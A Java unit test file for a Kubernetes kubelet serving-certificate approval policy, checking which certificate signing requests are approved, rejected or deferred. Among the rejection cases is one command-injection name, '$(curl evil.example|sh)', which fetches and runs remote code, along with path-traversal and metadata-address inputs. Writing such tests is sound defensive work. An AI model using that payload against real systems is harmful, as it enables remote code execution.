package dev.metricsserver.approval;

import static dev.metricsserver.approval.Draft.attribute;
import static dev.metricsserver.approval.Draft.bytes;
import static dev.metricsserver.approval.Draft.dns;
import static dev.metricsserver.approval.Draft.extension;
import static dev.metricsserver.approval.Draft.ip;
import static dev.metricsserver.approval.Draft.part;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatIllegalArgumentException;

import dev.metricsserver.api.KubeletSpec;
import dev.metricsserver.approval.ParsedRequest.Valid;
import dev.metricsserver.approval.Verdict.Approved;
import dev.metricsserver.approval.Verdict.Deferred;
import dev.metricsserver.approval.Verdict.Rejected;
import dev.metricsserver.approval.Verdict.Rule;
import dev.metricsserver.model.NodeFacts;
import dev.metricsserver.model.NodeFacts.Address;
import dev.metricsserver.model.SampleNode;
import io.fabric8.kubernetes.api.model.certificates.v1.CertificateSigningRequestCondition;
import io.fabric8.kubernetes.api.model.certificates.v1.CertificateSigningRequestConditionBuilder;
import java.net.InetAddress;
import java.net.UnknownHostException;
import java.security.spec.ECGenParameterSpec;
import java.time.Instant;
import java.util.Arrays;
import java.util.HexFormat;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.function.Consumer;
import java.util.stream.Collectors;
import java.util.stream.Stream;
import org.bouncycastle.asn1.ASN1Boolean;
import org.bouncycastle.asn1.ASN1Integer;
import org.bouncycastle.asn1.ASN1ObjectIdentifier;
import org.bouncycastle.asn1.ASN1OctetString;
import org.bouncycastle.asn1.ASN1Sequence;
import org.bouncycastle.asn1.DERBMPString;
import org.bouncycastle.asn1.DERBitString;
import org.bouncycastle.asn1.DERIA5String;
import org.bouncycastle.asn1.DERNull;
import org.bouncycastle.asn1.DEROctetString;
import org.bouncycastle.asn1.DERPrintableString;
import org.bouncycastle.asn1.DERSequence;
import org.bouncycastle.asn1.DERSet;
import org.bouncycastle.asn1.DERTaggedObject;
import org.bouncycastle.asn1.DERUTF8String;
import org.bouncycastle.asn1.x500.X500Name;
import org.bouncycastle.asn1.x509.GeneralName;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.MethodSource;

/** Every rule, with a request that breaks it and nothing else. */
class ApprovalPolicyTest {

  private static final int DAY = 24 * 60 * 60;

  record Case(String name, Rule rule, Consumer<Draft> change) {
    @Override
    public String toString() {
      return rule + ": " + name;
    }
  }

  record Right(String name, Consumer<Draft> change, List<Address> addresses) {
    Right(String name, Consumer<Draft> change, Address... addresses) {
      this(name, change, List.of(addresses));
    }

    @Override
    public String toString() {
      return name;
    }
  }

  record Later(String name, Draft draft, Optional<NodeFacts> node, String reason) {
    @Override
    public String toString() {
      return name;
    }
  }

  static Stream<Right> right() {
    return Stream.of(
        new Right("as a kubelet makes it", d -> {}),
        new Right("an RSA key", d -> d.rsa(2048, 65_537).usages = withKeyEncipherment()),
        new Right("P-384", d -> d.key = Draft.key("EC", new ECGenParameterSpec("secp384r1"))),
        new Right("P-521", d -> d.key = Draft.key("EC", new ECGenParameterSpec("secp521r1"))),
        new Right("no name", d -> d.names(ip("192.168.7.1"))),
        new Right(
            "an address of its own pods",
            d -> d.names(ip("10.244.0.1"), ip("fd00:10:244::1")),
            new Address("InternalIP", "10.244.0.1"),
            new Address("InternalIP", "fd00:10:244::1")),
        new Right(
            "an address beside the neighbour's pods",
            d -> d.names(ip("10.244.1.255"), ip("10.244.4.0")),
            new Address("InternalIP", "10.244.1.255"),
            new Address("InternalIP", "10.244.4.0")),
        new Right("no address", d -> d.names(dns("node-1"))),
        new Right(
            "a host name that differs by its domain",
            d -> d.names(dns("node-1"), dns("node-1.novalocal")),
            new Address("Hostname", "node-1"),
            new Address("Hostname", "node-1.novalocal")),
        new Right(
            "the short host name of a Node with a long name",
            d -> d.node("node-8.example.com").names(dns("node-8.example.com"), dns("node-8")),
            new Address("Hostname", "node-8.example.com"),
            new Address("InternalDNS", "node-8")),
        new Right("a year", d -> d.lifetime = 366 * DAY),
        new Right(
            "more groups", d -> d.groups = List.of("a", "system:authenticated", "system:nodes")),
        new Right("the name in capitals", d -> d.names(dns("NODE-1"))),
        new Right(
            "IPv6 in another spelling",
            d -> d.names(ip("fd00:0:0::7:1")),
            new Address("InternalIP", "FD00::0007:1")),
        new Right(
            "a name from outside",
            d -> d.names(dns("ec2-1-2-3-4.compute.amazonaws.com")),
            new Address("ExternalDNS", "ec2-1-2-3-4.compute.amazonaws.com")),
        new Right(
            "the other order, as UTF-8",
            d ->
                d.subject =
                    new DERSequence(
                        Draft.of(
                            part(Draft.COMMON_NAME, new DERUTF8String("system:node:node-1")),
                            part(Draft.ORGANIZATION, new DERUTF8String("system:nodes"))))),
        new Right("PEM without a last line break", d -> d.pem = String::strip),
        new Right("PEM from Windows", d -> d.pem = text -> text.replace("\n", "\r\n")),
        new Right(
            "harmless extensions",
            d ->
                d.extensions =
                    List.of(
                        extension("2.5.29.15", hex("030205a0")),
                        extension("2.5.29.37", hex("300a06082b06010505070301")),
                        extension("2.5.29.19", hex("3000")))),
        new Right(
            "a critical extension",
            d ->
                d.extensions =
                    List.of(
                        new DERSequence(
                            Draft.of(
                                new ASN1ObjectIdentifier("2.5.29.15"),
                                ASN1Boolean.TRUE,
                                new DEROctetString(hex("03020780")))))));
  }

  static Stream<Case> never() {
    return Stream.of(
        new Case("a query in its name", Rule.ObjectName, d -> d.name = "x?y"),
        new Case("a fragment in its name", Rule.ObjectName, d -> d.name = "x#y"),
        new Case("a command in its name", Rule.ObjectName, d -> d.name = "$(curl evil.example|sh)"),
        new Case("a line break in its name", Rule.ObjectName, d -> d.name = "x\ny"),
        new Case("a long name", Rule.ObjectName, d -> d.name = "x".repeat(254)),
        new Case(
            "another signer", Rule.Signer, d -> d.signer = "kubernetes.io/kube-apiserver-client"),
        new Case("approved", Rule.Undecided, d -> d.conditions = decided("Approved")),
        new Case("denied", Rule.Undecided, d -> d.conditions = decided("Denied")),
        new Case("failed", Rule.Undecided, d -> d.conditions = decided("Failed")),
        new Case("a person", Rule.User, d -> d.user = "admin"),
        new Case("no node", Rule.User, d -> d.user = "system:node:"),
        new Case("a path", Rule.User, d -> d.user = "system:node:../secrets"),
        new Case("a service account", Rule.User, d -> d.user = "system:serviceaccount:a:b"),
        new Case("no groups", Rule.Groups, d -> d.groups = List.of()),
        new Case("no node", Rule.Groups, d -> d.groups = List.of("system:authenticated")),
        new Case("not authenticated", Rule.Groups, d -> d.groups = List.of("system:nodes")),
        new Case("no server", Rule.Usages, d -> d.usages = List.of("digital signature")),
        new Case(
            "a client too", Rule.Usages, d -> d.usages = List.of("server auth", "client auth")),
        new Case("a CA", Rule.Usages, d -> d.usages = List.of("server auth", "cert sign")),
        new Case("too long", Rule.Lifetime, d -> d.lifetime = 366 * DAY + 1),
        new Case("no PEM", Rule.Encoding, d -> d.pem = text -> "hello"),
        new Case("nothing", Rule.Encoding, d -> d.pem = text -> ""),
        new Case("text before", Rule.Encoding, d -> d.pem = text -> "x\n" + text),
        new Case("text after", Rule.Encoding, d -> d.pem = text -> text + "x\n"),
        new Case("two of them", Rule.Encoding, d -> d.pem = text -> text + text),
        new Case("a certificate", Rule.Encoding, d -> d.pem = text -> text.replace(" REQUEST", "")),
        new Case(
            "a header", Rule.Encoding, d -> d.pem = text -> text.replaceFirst("\n", "\na: b\n\n")),
        new Case("empty", Rule.Encoding, d -> d.der = der -> new byte[0]),
        new Case(
            "bytes to spare",
            Rule.Encoding,
            d -> d.der = der -> Arrays.copyOf(der, der.length + 1)),
        new Case("cut off", Rule.Encoding, d -> d.der = der -> Arrays.copyOf(der, der.length - 1)),
        new Case(
            "a length in more bytes", Rule.Encoding, d -> d.der = ApprovalPolicyTest::longLength),
        new Case(
            "of indefinite length", Rule.Encoding, d -> d.der = ApprovalPolicyTest::indefinite),
        new Case("nested without end", Rule.Encoding, d -> d.der = der -> nested(10_000)),
        new Case(
            "huge",
            Rule.Encoding,
            d -> d.extensions = List.of(extension("1.2.3", new byte[40_000]))),
        new Case("another version", Rule.Encoding, d -> d.version = 1),
        new Case(
            "the name of another node",
            Rule.Subject,
            d -> d.subject = subject("system:nodes", "system:node:node-2")),
        new Case(
            "another organization",
            Rule.Subject,
            d -> d.subject = subject("system:masters", "system:node:node-1")),
        new Case("no organization", Rule.Subject, d -> d.subject = new DERSequence(cn())),
        new Case(
            "no common name", Rule.Subject, d -> d.subject = new DERSequence(o("system:nodes"))),
        new Case(
            "two organizations",
            Rule.Subject,
            d ->
                d.subject =
                    new DERSequence(Draft.of(o("system:nodes"), o("system:masters"), cn()))),
        new Case(
            "one organization twice",
            Rule.Subject,
            d -> d.subject = new DERSequence(Draft.of(o("system:nodes"), o("system:nodes"), cn()))),
        new Case("two values in one place", Rule.Subject, d -> d.subject = together()),
        new Case("an empty subject", Rule.Subject, d -> d.subject = new DERSequence()),
        new Case(
            "another kind of text",
            Rule.Subject,
            d ->
                d.subject =
                    new DERSequence(
                        Draft.of(
                            o("system:nodes"),
                            part(Draft.COMMON_NAME, new DERBMPString("system:node:node-1"))))),
        new Case(
            "a locality",
            Rule.Subject,
            d ->
                d.subject =
                    new DERSequence(
                        Draft.of(
                            o("system:nodes"),
                            cn(),
                            part("2.5.4.7", new DERPrintableString("x"))))),
        new Case(
            "a CA",
            Rule.Extensions,
            d -> d.extensions = List.of(extension("2.5.29.19", hex("30030101ff")))),
        new Case(
            "false in a way that is not canonical",
            Rule.Extensions,
            d -> d.extensions = List.of(extension("2.5.29.19", hex("3003010100")))),
        new Case(
            "signing of certificates",
            Rule.Extensions,
            d -> d.extensions = List.of(extension("2.5.29.15", hex("03020204")))),
        new Case(
            "a client",
            Rule.Extensions,
            d -> d.extensions = List.of(extension("2.5.29.37", hex("300a06082b06010505070302")))),
        new Case(
            "another extension",
            Rule.Extensions,
            d -> d.extensions = List.of(extension("1.3.6.1.4.1.99999.1", DERNull.INSTANCE))),
        new Case(
            "an extension twice",
            Rule.Extensions,
            d ->
                d.extensions =
                    List.of(
                        extension("2.5.29.19", hex("3000")), extension("2.5.29.19", hex("3000")))),
        new Case(
            "names twice",
            Rule.Extensions,
            d ->
                d.extensions =
                    List.of(
                        extension(Draft.SUBJECT_ALTERNATIVE_NAME, new DERSequence(dns("node-1"))))),
        new Case(
            "not critical, said aloud",
            Rule.Extensions,
            d ->
                d.extensions =
                    List.of(
                        new DERSequence(
                            Draft.of(
                                new ASN1ObjectIdentifier("2.5.29.19"),
                                ASN1Boolean.FALSE,
                                new DEROctetString(hex("3000")))))),
        new Case(
            "another attribute",
            Rule.Extensions,
            d ->
                d.attributes =
                    List.of(attribute("1.2.840.113549.1.9.7", new DERPrintableString("x")))),
        new Case(
            "another attribute alone",
            Rule.Extensions,
            d ->
                d.names().attributes =
                    List.of(attribute("1.2.840.113549.1.9.7", new DERPrintableString("x")))),
        new Case(
            "two requests for extensions",
            Rule.Extensions,
            d ->
                d.attributes =
                    List.of(
                        attribute(
                            Draft.EXTENSION_REQUEST,
                            new DERSequence(extension("2.5.29.19", hex("3000")))))),
        new Case("attributes under another tag", Rule.Encoding, d -> d.attributesTag = 1),
        new Case("nothing", Rule.Names, d -> d.names()),
        new Case(
            "extensions but no names",
            Rule.Names,
            d -> d.names().extensions = List.of(extension("2.5.29.19", hex("3000")))),
        new Case(
            "an e-mail address",
            Rule.Names,
            with(new GeneralName(GeneralName.rfc822Name, "a@b.c"))),
        new Case(
            "a URI",
            Rule.Names,
            with(new GeneralName(GeneralName.uniformResourceIdentifier, "https://node-1"))),
        new Case("a directory name", Rule.Names, with(new GeneralName(new X500Name("CN=node-1")))),
        new Case(
            "a registered identifier",
            Rule.Names,
            with(new GeneralName(GeneralName.registeredID, "1.2.3"))),
        new Case(
            "another kind",
            Rule.Names,
            with(
                new GeneralName(
                    GeneralName.otherName,
                    new DERSequence(
                        Draft.of(
                            new ASN1ObjectIdentifier("1.2.3"),
                            new DERTaggedObject(0, new DERIA5String("node-1"))))))),
        new Case("IPv4 as IPv6", Rule.Names, with(ip(hex("00000000000000000000ffffc0a80701")))),
        new Case("a network", Rule.Names, with(ip(hex("c0a80701ffffff00")))),
        new Case("half an address", Rule.Names, with(ip(hex("c0a8")))),
        new Case("a name in cluster.local", Rule.Names, with(dns("a.b.cluster.local"))),
        new Case("the domain itself", Rule.Names, with(dns("example.cluster"))),
        new Case("a Service", Rule.ServiceAddress, with(ip("10.96.0.1"))),
        new Case("a Service, IPv6", Rule.ServiceAddress, with(ip("fd00:10:96::1"))),
        new Case("RSA with 1024 bits", Rule.Key, d -> d.rsa(1024, 65_537)),
        new Case("RSA with exponent 3", Rule.Key, d -> d.rsa(2048, 3)),
        new Case("an unusual curve", Rule.Key, d -> d.der = ApprovalPolicyTest::otherCurve),
        new Case("a point beside the curve", Rule.Key, d -> d.der = der -> point(der, 64, 1)),
        new Case("a point written another way", Rule.Key, d -> d.der = der -> point(der, 0, 2)),
        new Case("a signature of zeros", Rule.Signature, d -> d.der = der -> signed(der, 0)),
        new Case("a signature of ones", Rule.Signature, d -> d.der = der -> signed(der, 1)),
        new Case(
            "signed by another key",
            Rule.Signature,
            d -> d.signingKey = Draft.key("EC", new ECGenParameterSpec("secp256r1"))),
        new Case("SHA-1", Rule.Signature, ApprovalPolicyTest::sha1),
        new Case(
            "a hash that is not the one named",
            Rule.Signature,
            d -> d.algorithm = "SHA384withECDSA"),
        new Case("an algorithm with parameters", Rule.Signature, d -> d.algorithmHasNull = true),
        new Case(
            "a signature of RSA with a key of EC",
            Rule.Signature,
            d -> d.algorithmId = "1.2.840.113549.1.1.11"));
  }

  static Stream<String> namesThatNoNodeHas() {
    return Stream.of(
        "localhost",
        "LOCALHOST",
        "localhost.localdomain",
        "a.localhost",
        "*",
        "*.example.com",
        "node-1.",
        ".node-1",
        "a..b.c",
        "",
        " ",
        "node_1.example.com",
        "-a.b.c",
        "10.0.0.1",
        "a.b.1",
        "0x7f.0.0.0x1",
        "kubernetes",
        "kubernetes.default",
        "kubernetes.default.svc",
        "a.b.svc.example.com",
        "metrics-server.kube-system",
        "node-2",
        "10-0-0-1.default.pod",
        "a.b.c\u0000.d",
        "ä.b.c",
        "a".repeat(64) + ".b.c",
        "a.".repeat(127) + "abc",
        "a/b.c.d");
  }

  static Stream<String> addressesThatNoNodeHas() {
    return Stream.of(
        "127.0.0.1",
        "127.8.9.1",
        "0.0.0.0",
        "0.1.2.3",
        "255.255.255.255",
        "240.0.0.1",
        "224.0.0.1",
        "169.254.169.254",
        "::",
        "::1",
        "fe80::1",
        "ff02::1",
        "64:ff9b::a60:1",
        "64:ff9b:1::a60:1",
        "::a60:1",
        "2002:a60:1::1");
  }

  static Stream<Later> later() {
    var usual = new Draft();
    return Stream.of(
        new Later("no node", usual, Optional.empty(), "Node node-1 does not exist"),
        new Later(
            "no addresses",
            usual,
            Optional.of(node(Map.of())),
            "192.168.7.1 is not an address of Node node-1"),
        new Later(
            "not all addresses",
            new Draft().names(dns("node-1"), ip("192.168.7.99")),
            Optional.of(usualNode()),
            "192.168.7.99 is not an address of Node node-1"),
        new Later(
            "the neighbour's address",
            new Draft().names(ip("192.168.7.2")),
            Optional.of(node(Map.of(), new Address("InternalIP", "192.168.7.2"))),
            "192.168.7.2 is also an address of Node node-2"),
        new Later(
            "the neighbour's name",
            new Draft().names(dns("node-2.example.com")),
            Optional.of(node(Map.of(), new Address("Hostname", "Node-2.example.com"))),
            "node-2.example.com is also an address of Node node-2"),
        claimed(
            "the API servers' DNS name",
            dns("api.prod.example.com"),
            "api.prod.example.com belongs to an API server"),
        claimed(
            "the API servers' virtual address",
            ip("192.168.7.200"),
            "192.168.7.200 belongs to an API server"),
        claimed(
            "the API servers' load balancer",
            ip("203.0.113.7"),
            "203.0.113.7 belongs to an API server"),
        claimed(
            "a name that the API servers' wildcard covers",
            dns("a.k8s.example.com"),
            "a.k8s.example.com belongs to an API server"),
        claimed(
            "a Service's load balancer",
            ip("192.168.7.240"),
            "192.168.7.240 is an address of the load balancer of Service shop/web"),
        claimed(
            "a Service's load balancer by name",
            dns("lb.example.com"),
            "lb.example.com is an address of the load balancer of Service shop/web"),
        claimed(
            "a pod of a StatefulSet",
            dns("vault-0.vault-internal.vault"),
            "vault-0.vault-internal.vault can be the name of a Service or a pod in namespace"
                + " vault"),
        claimed(
            "a Service with the node's name",
            dns("node-1.prod"),
            "node-1.prod can be the name of a Service or a pod in namespace prod"),
        podOf("10.244.2.0", "node-2"),
        podOf("10.244.3.255", "node-2"),
        podOf("fd00:10:244:1:0:0:0:1", "node-2"),
        new Later(
            "an API server's address",
            new Draft().names(ip("192.168.7.100")),
            Optional.of(node(Map.of(), new Address("InternalIP", "192.168.7.100"))),
            "192.168.7.100 belongs to an API server, and Node node-1 has no label"));
  }

  @ParameterizedTest
  @MethodSource("right")
  void approves(Right right) {
    var draft = new Draft();
    right.change().accept(draft);
    var node =
        right.addresses().isEmpty()
            ? usualNode()
            : node(
                draft.user.substring("system:node:".length()),
                Map.of(),
                right.addresses().toArray(Address[]::new));
    assertThat(verdict(draft, Optional.of(node))).isEqualTo(new Approved());
  }

  @ParameterizedTest
  @MethodSource("never")
  void neverApproves(Case broken) {
    var draft = new Draft();
    broken.change().accept(draft);
    assertThat(verdict(draft, Optional.of(everything())))
        .isInstanceOfSatisfying(
            Rejected.class,
            rejected ->
                assertThat(rejected.rule()).as(rejected.reason().text()).isEqualTo(broken.rule()));
  }

  @ParameterizedTest
  @MethodSource("namesThatNoNodeHas")
  void neverApprovesAName(String name) {
    assertThat(
            verdict(
                new Draft().names(dns("node-1"), dns(name)),
                Optional.of(
                    node(
                        Map.of(),
                        new Address("Hostname", "node-1"),
                        new Address("InternalDNS", name)))))
        .isInstanceOfSatisfying(
            Rejected.class, rejected -> assertThat(rejected.rule()).isEqualTo(Rule.Names));
  }

  @ParameterizedTest
  @MethodSource("addressesThatNoNodeHas")
  void neverApprovesAnAddress(String address) {
    assertThat(
            verdict(
                new Draft().names(ip(address)),
                Optional.of(node(Map.of(), new Address("InternalIP", address)))))
        .isInstanceOfSatisfying(
            Rejected.class, rejected -> assertThat(rejected.rule()).isEqualTo(Rule.Names));
  }

  @ParameterizedTest
  @MethodSource("later")
  void waits(Later later) {
    assertThat(verdict(later.draft(), later.node()))
        .isInstanceOfSatisfying(
            Deferred.class,
            deferred -> assertThat(deferred.reason().text()).startsWith(later.reason()));
  }

  @Test
  void controlPlaneNode_withNameOfAPIServer_isApproved() {
    var controlPlane =
        node(
            Map.of(ApprovalPolicy.CONTROL_PLANE, ""),
            new Address("InternalDNS", "api.prod.example.com"));
    assertThat(verdict(new Draft().names(dns("api.prod.example.com")), Optional.of(controlPlane)))
        .isEqualTo(new Approved());
  }

  @Test
  void aControlPlaneNodeHasTheAddressOfItsAPIServer() {
    var controlPlane =
        node(Map.of(ApprovalPolicy.CONTROL_PLANE, ""), new Address("InternalIP", "192.168.7.100"));
    assertThat(verdict(new Draft().names(ip("192.168.7.100")), Optional.of(controlPlane)))
        .isEqualTo(new Approved());
  }

  @Test
  void waitsUntilTheAPIServersAreKnown() {
    var context =
        new ClusterContext(
            ClusterContext.APIServers.of(List.of(), List.of()),
            ClusterContext.Services.of(List.of("10.96.0.0/16"), true, Map.of()),
            ClusterContext.Names.of(List.of("cluster.local"), List.of()),
            new ClusterContext.Nodes(a -> List.of(), n -> List.of()),
            Limits.NONE);
    var request = (Valid) new Draft().parsed();
    assertThat(ApprovalPolicy.judge(request, Optional.of(usualNode()), context))
        .isInstanceOf(Deferred.class);
  }

  @Test
  void addressInGuessedServiceRange_waits() {
    var guessed =
        new ClusterContext(
            context().apiServers(),
            ClusterContext.Services.of(List.of("192.168.0.0/13"), false, Map.of()),
            context().names(),
            context().nodes(),
            Limits.NONE);
    assertThat(
            ApprovalPolicy.judge((Valid) new Draft().parsed(), Optional.of(usualNode()), guessed))
        .isEqualTo(new Deferred(Reason.of(Reason.Code.PossibleServiceAddress, "192.168.7.1")));
  }

  @ParameterizedTest(name = "{0}")
  @CsvSource(
      delimiter = '|',
      value = {
        "no limit                        |                                 |                | ",
        "in a network                    | 10.0.0.0/8 192.168.7.0/24       |                | ",
        "in no network                   | 192.168.8.0/24 fd00::/64        |                |"
            + " 192.168.7.1 is not in spec.kubelet.servingCertificateApproval.allowedCIDRs",
        "an entry that is no CIDR        | 192.168.7.0/99                  |                |"
            + " 192.168.7.1 is not in spec.kubelet.servingCertificateApproval.allowedCIDRs",
        "only an IPv6 network            | ::/0                            |                |"
            + " 192.168.7.1 is not in spec.kubelet.servingCertificateApproval.allowedCIDRs",
        "in a domain                     |                                 | a.test lan     | ",
        "the domain itself               |                                 | node-1.rack.lan | ",
        "in no domain                    |                                 | an             |"
            + " node-1.rack.lan is not in spec.kubelet.servingCertificateApproval.allowedDomains",
      })
  void request_outsideOfTheLimits_waits(
      String name, String networks, String domains, String reason) {
    var limited =
        limited(
            Limits.of(new KubeletSpec.Approval(null, words(networks), words(domains), List.of())));
    var node =
        node(
            Map.of(),
            new Address("InternalIP", "192.168.7.1"),
            new Address("Hostname", "node-1"),
            new Address("InternalDNS", "node-1.rack.lan"));
    var request =
        (Valid)
            new Draft().names(dns("node-1"), dns("node-1.rack.lan"), ip("192.168.7.1")).parsed();

    assertThat(ApprovalPolicy.judge(request, Optional.of(node), limited))
        .isEqualTo(
            reason == null
                ? new Approved()
                : new Deferred(
                    Reason.of(
                        networks == null
                            ? Reason.Code.OutsideAllowedDomains
                            : Reason.Code.OutsideAllowedCIDRs,
                        reason.substring(0, reason.indexOf(' ')))));
  }

  @Test
  void request_outsideOfTheLimits_waitsAlthoughTheNodeIsUnknown() {
    var limits =
        Limits.of(new KubeletSpec.Approval(null, List.of("10.0.0.0/8"), List.of(), List.of()));

    assertThat(
            ApprovalPolicy.judge((Valid) new Draft().parsed(), Optional.empty(), limited(limits)))
        .isEqualTo(new Deferred(Reason.of(Reason.Code.OutsideAllowedCIDRs, "192.168.7.1")));
  }

  @Test
  void certificatesOfAPIServersUnknown_waits() {
    var unknown =
        new ClusterContext(
            ClusterContext.APIServers.of(List.of("192.168.7.100"), List.of()),
            context().services(),
            context().names(),
            context().nodes(),
            Limits.NONE);
    assertThat(
            ApprovalPolicy.judge((Valid) new Draft().parsed(), Optional.of(usualNode()), unknown))
        .isEqualTo(new Deferred(Reason.of(Reason.Code.APIServersUnknown)));
  }

  @Test
  void isNotAskedAboutAnotherNode() {
    var request = (Valid) new Draft().node("node-9").names(ip("192.168.7.1")).parsed();
    assertThatIllegalArgumentException()
        .isThrownBy(() -> ApprovalPolicy.judge(request, Optional.of(usualNode()), context()));
  }

  private static ClusterContext limited(Limits limits) {
    return new ClusterContext(
        context().apiServers(), context().services(), context().names(), context().nodes(), limits);
  }

  static Verdict verdict(Draft draft, Optional<NodeFacts> node) {
    return switch (draft.parsed()) {
      case Rejected rejected -> rejected;
      case Valid request -> ApprovalPolicy.judge(request, node, context());
    };
  }

  static ClusterContext context() {
    var claims =
        Map.of(
            "node-1", List.of("node-1"),
            "192.168.7.1", List.of("node-1"),
            "192.168.7.2", List.of("node-1", "node-2"),
            "node-2.example.com", List.of("node-2"));
    var pods =
        Stream.of(
                pods("node-1", "10.244.0.0/24", "fd00:10:244::/64"),
                pods("node-2", "10.244.2.7/23", "fd00:10:244:1::/64"))
            .flatMap(node ->
                Addresses.podNetworks(node).stream()
                    .map(network -> Map.entry(network, List.of(node.name()))))
            .collect(Collectors.toMap(Map.Entry::getKey, Map.Entry::getValue));
    return new ClusterContext(
        ClusterContext.APIServers.of(
            List.of("192.168.7.100"),
            List.of("api.prod.example.com", "192.168.7.200", "203.0.113.7", "*.k8s.example.com")),
        ClusterContext.Services.of(
            List.of("10.96.0.0/16", "fd00:10:96::/108"),
            true,
            Map.of("192.168.7.240", "shop/web", "lb.example.com", "shop/web")),
        ClusterContext.Names.of(
            List.of("Cluster.Local", "example.cluster"), List.of("default", "vault", "prod")),
        new ClusterContext.Nodes(
            address -> claims.getOrDefault(address, List.of()),
            network -> pods.getOrDefault(network, List.of())),
        Limits.NONE);
  }

  private static List<String> words(String text) {
    return text == null ? List.of() : List.of(text.split(" ", -1));
  }

  private static Later claimed(String name, GeneralName asked, String reason) {
    var address =
        asked.getTagNo() == GeneralName.dNSName
            ? ((DERIA5String) asked.getName()).getString()
            : address(asked);
    return new Later(
        name,
        new Draft().names(asked),
        Optional.of(node(Map.of(), new Address("InternalIP", address))),
        reason);
  }

  private static String address(GeneralName asked) {
    try {
      return InetAddress.getByAddress(((ASN1OctetString) asked.getName()).getOctets())
          .getHostAddress();
    } catch (UnknownHostException e) {
      throw new IllegalArgumentException(e);
    }
  }

  private static Later podOf(String address, String other) {
    return new Later(
        "the address %s of the neighbour's pods".formatted(address),
        new Draft().names(ip(address)),
        Optional.of(node(Map.of(), new Address("InternalIP", address))),
        "%s is an address of the pods of Node %s".formatted(address, other));
  }

  private static NodeFacts pods(String name, String... networks) {
    var node = SampleNode.bare(name);
    Stream.of(networks).forEach(node::podCIDR);
    return node.facts();
  }

  static NodeFacts usualNode() {
    return node(
        Map.of(), new Address("Hostname", "node-1"), new Address("InternalIP", "192.168.7.1"));
  }

  /** A node that claims what it must not have. */
  private static NodeFacts everything() {
    return node(
        Map.of(),
        new Address("Hostname", "node-1"),
        new Address("InternalIP", "192.168.7.1"),
        new Address("InternalIP", "10.96.0.1"),
        new Address("InternalIP", "fd00:10:96::1"),
        new Address("InternalDNS", "a.b.cluster.local"));
  }

  static NodeFacts node(Map<String, String> labels, Address... addresses) {
    return node("node-1", labels, addresses);
  }

  private static NodeFacts node(String name, Map<String, String> labels, Address... addresses) {
    return new NodeFacts(
        name,
        labels,
        List.of(addresses),
        List.of(),
        List.of(),
        List.of(),
        true,
        Instant.EPOCH,
        10250,
        Instant.EPOCH,
        new NodeFacts.Software("", ""),
        "");
  }

  private static List<String> withKeyEncipherment() {
    return List.of("digital signature", "key encipherment", "server auth");
  }

  private static List<CertificateSigningRequestCondition> decided(String type) {
    return List.of(
        new CertificateSigningRequestConditionBuilder().withType(type).withStatus("True").build());
  }

  private static Consumer<Draft> with(GeneralName name) {
    return draft -> draft.names.add(name);
  }

  private static DERSet o(String organization) {
    return (DERSet) part(Draft.ORGANIZATION, new DERPrintableString(organization));
  }

  private static DERSet cn() {
    return (DERSet) part(Draft.COMMON_NAME, new DERPrintableString("system:node:node-1"));
  }

  private static DERSequence subject(String organization, String name) {
    return new DERSequence(
        Draft.of(o(organization), part(Draft.COMMON_NAME, new DERPrintableString(name))));
  }

  private static DERSequence together() {
    return new DERSequence(
        new DERSet(Draft.of(o("system:nodes").getObjectAt(0), cn().getObjectAt(0))));
  }

  private static byte[] hex(String text) {
    return HexFormat.of().parseHex(text);
  }

  /** The outermost length, which has two bytes, in three. */
  private static byte[] longLength(byte[] der) {
    var longer = new byte[der.length + 1];
    longer[0] = der[0];
    longer[1] = (byte) 0x83;
    System.arraycopy(der, 2, longer, 3, der.length - 2);
    return longer;
  }

  private static byte[] indefinite(byte[] der) {
    var changed = new byte[der.length];
    changed[0] = der[0];
    changed[1] = (byte) 0x80;
    System.arraycopy(der, 4, changed, 2, der.length - 4);
    return changed;
  }

  private static byte[] nested(int levels) {
    var der = new byte[2 * levels];
    for (var i = 0; i < levels; i++) {
      der[2 * i] = 0x30;
      der[2 * i + 1] = (byte) 0x80;
    }
    return der;
  }

  /** secp256k1 under the key of P-256. */
  private static byte[] otherCurve(byte[] der) {
    var p256 = bytes(new ASN1ObjectIdentifier("1.2.840.10045.3.1.7"));
    var hex = HexFormat.of();
    return hex.parseHex(hex.formatHex(der).replace(hex.formatHex(p256), "06082a8648ce3d03010a"));
  }

  /** Other bits in a byte of the point that is the key. */
  private static byte[] point(byte[] der, int at, int bits) {
    var key = Draft.P256.getPublic().getEncoded();
    var hex = HexFormat.of();
    var changed = key.clone();
    changed[key.length - 65 + at] ^= (byte) bits;
    return hex.parseHex(hex.formatHex(der).replace(hex.formatHex(key), hex.formatHex(changed)));
  }

  /** A signature that is twice the same number. */
  private static byte[] signed(byte[] der, int number) {
    var request = ASN1Sequence.getInstance(der);
    var integer = new ASN1Integer(number);
    return bytes(
        new DERSequence(
            Draft.of(
                request.getObjectAt(0),
                request.getObjectAt(1),
                new DERBitString(bytes(new DERSequence(Draft.of(integer, integer)))))));
  }

  private static void sha1(Draft draft) {
    draft.algorithm = "SHA1withECDSA";
    draft.algorithmId = "1.2.840.10045.4.1";
  }
}
